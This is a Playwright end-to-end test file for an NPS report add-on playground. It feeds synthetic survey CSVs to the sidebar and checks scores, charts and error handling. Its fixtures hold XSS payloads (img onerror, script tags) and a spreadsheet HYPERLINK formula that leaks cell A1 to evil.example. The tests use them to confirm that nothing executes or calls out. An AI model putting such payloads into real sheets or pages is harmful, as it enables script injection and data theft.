/**
 * Issue 4, "Done when" and "Bad input", as a browser script outside the code
 * base would check them: the playground is started (through the shared
 * harness) on exports written here, that it has never seen, and the page is
 * driven through the data-testids of SPEC section 9 only — role-select-<i>,
 * period-select, segment-select, mode-select, build-report, overall-nps,
 * overall-responses, ignored-count, status, sheet-tab-<name>, chart-<n> —
 * plus the text a user reads. The sidebar frame is found as the frame that
 * holds build-report, not by any id of the page.
 *
 * Every figure checked is counted in this file from the rows of the CSV.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Frame, Page } from 'playwright-core';
import { openWatchedPage, startPlayground, waitFor, type Playground, type WatchedPage } from '../local/playground/harness';

const IMG = '<img src=x onerror="window.__pwned=1">';
const SCRIPT = '<script>window.__pwned=1</script>';
const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';

let dir: string;

const testid = (id: string) => `[data-testid="${id}"]`;
const csvLine = (cells: string[]) => cells.map((c) => `"${c.replace(/"/g, '""')}"`).join(',');

/** The frame that holds the sidebar: the one with the build button. */
async function sidebarOf(page: Page): Promise<Frame> {
  let found: Frame | null = null;
  await waitFor(async () => {
    for (const frame of page.frames()) {
      if ((await frame.locator(testid('build-report')).count()) > 0) {
        found = frame;
        return true;
      }
    }
    return false;
  }, 30_000);
  return found!;
}

/** The role pickers' values, by column index. */
async function roles(sidebar: Frame): Promise<string[]> {
  const pickers = sidebar.locator('[data-testid^="role-select-"]');
  const count = await pickers.count();
  const values: string[] = [];
  for (let i = 0; i < count; i++) values.push(await sidebar.locator(testid(`role-select-${i}`)).inputValue());
  return values;
}

/** Reads a figure the sidebar shows ("−12.5", "-12.5", "240"). */
async function figure(sidebar: Frame, id: string): Promise<number> {
  const text = (await sidebar.locator(testid(id)).innerText()).trim().replace('\u2212', '-');
  return Number(text);
}

/** Picks the segment-select entry whose label mentions `words`. */
async function pickSegment(sidebar: Frame, words: RegExp): Promise<void> {
  const select = sidebar.locator(testid('segment-select'));
  const labels = await select.locator('option').allInnerTexts();
  const label = labels.find((l) => words.test(l));
  expect(label).toBeDefined();
  await select.selectOption({ label: label! });
}

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'nps-e2e-'));
});

afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('a Typeform-like export the playground has not seen', () => {
  // Typeform's CSV: "#", the questions, then "Start Date (UTC)", "Submit Date (UTC)", "Network ID".
  const HEADERS = ['#', 'How likely are you to recommend Acme to a friend or colleague?', "What's the main reason for your score?", `Which plan are you on? ${SCRIPT}`, 'Start Date (UTC)', 'Submit Date (UTC)', 'Network ID'];
  const PLANS = ['Starter', 'Growth', IMG, HYPERLINK, '+1', '@x', SCRIPT];
  const ROWS = 173;
  const rows: string[][] = [];
  for (let i = 0; i < ROWS; i++) {
    const month = i % 4; // Jan–Apr 2025
    const day = 1 + ((i * 7) % 28);
    const submitted = `2025-0${month + 1}-${String(day).padStart(2, '0')} ${String(8 + (i % 12)).padStart(2, '0')}:${String((i * 13) % 60).padStart(2, '0')}:05`;
    const started = `2025-0${month + 1}-${String(day).padStart(2, '0')} 07:59:00`;
    // Mostly 0–10; a few partial responses (blank) and two typed "n/a".
    const score = i % 29 === 5 ? '' : i === 40 || i === 111 ? 'n/a' : String((i * 5 + (i >> 3)) % 11);
    rows.push([`r${1000 + i}x`, score, i % 6 ? `Reason ${i % 9} ${i % 2 ? IMG : SCRIPT}` : '', PLANS[i % PLANS.length], started, submitted, `net${(i * 31) % 97}`]);
  }
  // The independent count: valid scores only (blanks and "n/a" never in the denominator).
  const scores = rows.map((r) => r[1]).filter((s) => /^\d+$/.test(s)).map(Number);
  const promoters = scores.filter((s) => s >= 9).length;
  const detractors = scores.filter((s) => s <= 6).length;
  const npsShown = Math.round(((promoters - detractors) / scores.length) * 1000) / 10;

  let playground: Playground;
  let watched: WatchedPage;

  beforeAll(async () => {
    const file = join(dir, 'typeform_acme_nps.csv');
    writeFileSync(file, `${[csvLine(HEADERS), ...rows.map(csvLine)].join('\r\n')}\r\n`);
    playground = await startPlayground(file);
    watched = await openWatchedPage();
  }, 60_000);

  afterAll(async () => {
    await watched?.close();
    await playground?.stop();
  });

  test('score column already chosen; a monthly report with four charts; NPS and responses match the count; no sheet script ran; nothing left 127.0.0.1', async () => {
    const { page } = watched;
    await page.goto(playground.url);
    const sidebar = await sidebarOf(page);
    await sidebar.locator(testid('role-select-1')).waitFor();
    const found = await roles(sidebar);
    expect(found).toHaveLength(HEADERS.length);
    expect(found.filter((r) => r === 'score')).toEqual(['score']);
    expect(found[1]).toBe('score');

    await waitFor(async () => (await sidebar.locator(testid('overall-responses')).innerText()).trim() === String(scores.length));
    expect(await figure(sidebar, 'overall-responses')).toBe(scores.length);
    expect(await figure(sidebar, 'overall-nps')).toBeCloseTo(npsShown, 5);
    expect(await figure(sidebar, 'ignored-count')).toBe(2);

    await sidebar.locator(testid('period-select')).selectOption('month');
    await pickSegment(sidebar, /plan/i);
    expect(await sidebar.locator(testid('mode-select')).inputValue()).toBe('snapshot');
    await sidebar.locator(testid('build-report')).click();
    await page.locator(testid('sheet-tab-NPS · typeform_acme_nps')).waitFor({ timeout: 30_000 });
    await waitFor(async () => /Report ready/.test(await sidebar.locator(testid('status')).innerText()));
    await waitFor(async () => (await page.locator('[data-testid^="chart-"]').count()) === 4);
    for (const n of [0, 1, 2, 3]) expect(await page.locator(testid(`chart-${n}`)).isVisible()).toBe(true);
    // The preview after the build still shows the independent figures.
    expect(await figure(sidebar, 'overall-nps')).toBeCloseTo(npsShown, 5);
    expect(await figure(sidebar, 'overall-responses')).toBe(scores.length);

    // The report tab shows the payload segment names as text.
    await page.locator(testid('sheet-tab-NPS · typeform_acme_nps')).click();
    await waitFor(async () => (await page.locator('body').innerText()).includes(HYPERLINK));
    expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(await sidebar.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(watched.foreignRequests).toEqual([]);
    expect(watched.consoleErrors).toEqual([]);
  }, 60_000);

  test('the score given to another column can be given back: one score column, the figures as before', async () => {
    const { page } = watched;
    const sidebar = await sidebarOf(page);
    await page.locator(testid('sheet-tab-typeform_acme_nps')).click();
    await sidebar.locator(testid('role-select-6')).waitFor();
    await sidebar.locator(testid('role-select-6')).selectOption('score'); // Network ID as the score, by mistake
    await waitFor(async () => (await sidebar.locator(testid('role-select-1')).inputValue()) !== 'score');
    await waitFor(async () => !(await sidebar.locator(testid('role-select-1')).isDisabled()));
    await sidebar.locator(testid('role-select-1')).selectOption('score'); // and back
    await waitFor(async () => (await sidebar.locator(testid('role-select-1')).inputValue()) === 'score');
    await waitFor(async () => !(await sidebar.locator(testid('role-select-1')).isDisabled()));
    const found = await roles(sidebar);
    expect(found.filter((r) => r === 'score')).toEqual(['score']);
    expect(found[6]).not.toBe('score');
    await waitFor(async () => (await sidebar.locator(testid('overall-responses')).innerText()).trim() === String(scores.length));
    expect(await figure(sidebar, 'overall-nps')).toBeCloseTo(npsShown, 5);
    expect(watched.consoleErrors).toEqual([]);
  }, 60_000);

  test('the same build in live mode: the figures still match the count', async () => {
    const { page } = watched;
    const sidebar = await sidebarOf(page);
    await page.locator(testid('sheet-tab-typeform_acme_nps')).click();
    await sidebar.locator(testid('mode-select')).selectOption('live');
    await sidebar.locator(testid('build-report')).click();
    await waitFor(async () => /Report (ready|refreshed)/.test(await sidebar.locator(testid('status')).innerText()) && !(await sidebar.locator(testid('build-report')).isDisabled()));
    expect(await page.locator('[data-testid^="sheet-tab-NPS"]').count()).toBe(1);
    await waitFor(async () => (await page.locator('[data-testid^="chart-"]').count()) === 4);
    expect(await figure(sidebar, 'overall-nps')).toBeCloseTo(npsShown, 5);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(await sidebar.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(watched.foreignRequests).toEqual([]);
    expect(watched.consoleErrors).toEqual([]);
  }, 60_000);
});

describe('a SurveyMonkey-like export with no score column', () => {
  // Two header rows, as SurveyMonkey exports them; the only rating is a 1–5 scale.
  const HEADERS_1 = ['Respondent ID', 'Collector ID', 'Start Date', 'End Date', 'How satisfied are you with our support?', 'Which region are you in?', 'Any other comments?'];
  const HEADERS_2 = ['', '', '', '', 'Response', 'Response', 'Open-Ended Response'];
  const REGIONS = ['North', 'South', '=HYPERLINK("x")', '@x'];
  const rows: string[][] = [];
  for (let i = 0; i < 64; i++) {
    const date = `${1 + (i % 3)}/${1 + ((i * 3) % 28)}/2025 ${1 + (i % 12)}:${String((i * 7) % 60).padStart(2, '0')}:00 ${i % 2 ? 'PM' : 'AM'}`;
    rows.push([String(11400000000 + i * 37), '431200001', date, date, String(1 + ((i * 3) % 5)), REGIONS[i % REGIONS.length], i % 3 ? '' : `Thanks ${IMG}`]);
  }
  const SCORE_COLUMN = 4;

  let playground: Playground;
  let watched: WatchedPage;
  let sidebar: Frame;
  const buildCalls: string[] = [];

  beforeAll(async () => {
    const file = join(dir, 'support_survey.csv');
    writeFileSync(file, `${[csvLine(HEADERS_1), csvLine(HEADERS_2), ...rows.map(csvLine)].join('\n')}\n`);
    playground = await startPlayground(file);
    watched = await openWatchedPage();
    watched.page.on('request', (request) => {
      if (request.method() === 'POST' && request.url().endsWith('/api/run') && /"name":"buildReport"/.test(request.postData() ?? '')) buildCalls.push(request.url());
    });
    await watched.page.goto(playground.url);
    sidebar = await sidebarOf(watched.page);
  }, 60_000);

  afterAll(async () => {
    await watched?.close();
    await playground?.stop();
  });

  test('the sidebar explains that no score column was found; picking one in role-select makes the preview appear', async () => {
    await sidebar.locator(testid(`role-select-${SCORE_COLUMN}`)).waitFor();
    await waitFor(async () => /No column of 0–10 answers was found/.test(await sidebar.locator('body').innerText()));
    expect((await roles(sidebar)).includes('score')).toBe(false);
    expect(await sidebar.locator(testid('overall-nps')).innerText()).not.toMatch(/\d/);

    await sidebar.locator(testid(`role-select-${SCORE_COLUMN}`)).selectOption('score');
    await waitFor(async () => (await sidebar.locator(testid('overall-responses')).innerText()).trim() === String(rows.length));
    // 1–5 answers read as 0–10 scores are all detractors.
    expect(await figure(sidebar, 'overall-nps')).toBe(-100);
    expect(await figure(sidebar, 'ignored-count')).toBe(0);
    expect(await sidebar.locator('body').innerText()).not.toMatch(/No column of 0–10 answers was found/);
  });

  test('a double click on build makes one report: one call, one report tab, four charts', async () => {
    const { page } = watched;
    await sidebar.locator(testid('period-select')).selectOption('month');
    await pickSegment(sidebar, /region/i);
    await sidebar.locator(testid('build-report')).dblclick();
    await waitFor(async () => /Report ready/.test(await sidebar.locator(testid('status')).innerText()), 30_000);
    await waitFor(async () => (await page.locator('[data-testid^="chart-"]').count()) === 4);
    await page.waitForTimeout(300);
    expect(buildCalls).toHaveLength(1);
    expect(await page.locator('[data-testid^="sheet-tab-"]').count()).toBe(2);
    expect(await page.locator(testid('sheet-tab-NPS · support_survey')).count()).toBe(1);
    expect(await page.locator('[data-testid^="chart-"]').count()).toBe(4);
  });

  test('a server error and a rejected call reach the status; the UI stays usable and the next build works', async () => {
    const { page } = watched;
    // The server answers with an error (as when the add-on throws).
    await page.route('**/api/run', async (route) => {
      if (!/"name":"buildReport"/.test(route.request().postData() ?? '')) return route.continue();
      return route.fulfill({ contentType: 'application/json', body: JSON.stringify({ ok: false, error: 'Service Spreadsheets timed out while accessing document.', changed: false }) });
    });
    await sidebar.locator(testid('build-report')).click();
    await waitFor(async () => /Service Spreadsheets timed out/.test(await sidebar.locator(testid('status')).innerText()));
    await page.unroute('**/api/run');
    // The call is rejected: no answer at all.
    await page.route('**/api/run', (route) => (/"name":"buildReport"/.test(route.request().postData() ?? '') ? route.abort('connectionreset') : route.continue()));
    await waitFor(async () => !(await sidebar.locator(testid('build-report')).isDisabled()));
    await sidebar.locator(testid('build-report')).click();
    await waitFor(async () => /did not answer|could not|failed/i.test(await sidebar.locator(testid('status')).innerText()) && !/timed out/.test(await sidebar.locator(testid('status')).innerText()));
    await page.unroute('**/api/run');

    // Still usable: the controls respond and a build goes through.
    await waitFor(async () => !(await sidebar.locator(testid('build-report')).isDisabled()));
    await sidebar.locator(testid('period-select')).selectOption('quarter');
    await waitFor(async () => (await sidebar.locator(testid('overall-responses')).innerText()).trim() === String(rows.length));
    await sidebar.locator(testid('build-report')).click();
    await waitFor(async () => /Report refreshed/.test(await sidebar.locator(testid('status')).innerText()), 30_000);
    expect(await page.locator('[data-testid^="sheet-tab-NPS"]').count()).toBe(1);
    await waitFor(async () => (await page.locator('[data-testid^="chart-"]').count()) === 4);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(await sidebar.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(watched.foreignRequests).toEqual([]);
  });
});
